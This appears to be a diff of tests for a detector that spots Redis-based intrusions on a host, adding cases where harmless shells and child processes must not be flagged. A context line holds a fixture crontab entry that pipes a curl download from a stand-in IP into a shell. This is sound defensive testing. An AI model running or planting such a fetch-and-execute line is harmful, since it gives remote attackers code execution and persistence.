@@ -63,6 +63,29 @@ describe('an honest host', () => {
   });
 });
 
+describe('programs below a server that mean nothing', () => {
+  it('orphans that the first process of a container inherits', async () => {
+    put(
+      'proc/100/status',
+      'Name:\tredis-server\nPPid:\t1\nUid:\t999\t999\t999\t999\nVmSize:\t1 kB\nNSpid:\t100\t1\n',
+    );
+    run(101, 'sh', '/bin/sh', 100);
+    expect(await look()).toEqual([]);
+  });
+
+  it('the scripts of Sentinel', async () => {
+    put('proc/100/cmdline', 'redis-sentinel *:26379 [sentinel]\0');
+    run(101, 'sh', '/bin/sh', 100);
+    expect(await look()).toEqual([]);
+  });
+
+  it('the child that saves the data, and shells of others', async () => {
+    run(101, 'redis-server', '/usr/bin/redis-server', 100);
+    run(102, 'sh', '/bin/sh', 1);
+    expect(await look()).toEqual([]);
+  });
+});
+
 describe('a host that somebody came into through Redis', () => {
   it('has crontabs that are dumps, or that fetch and run something', async () => {
     put('var/spool/cron/crontabs/root', dump('*/5 * * * * curl -fsSL http://203.0.113.50/x.sh | sh'));
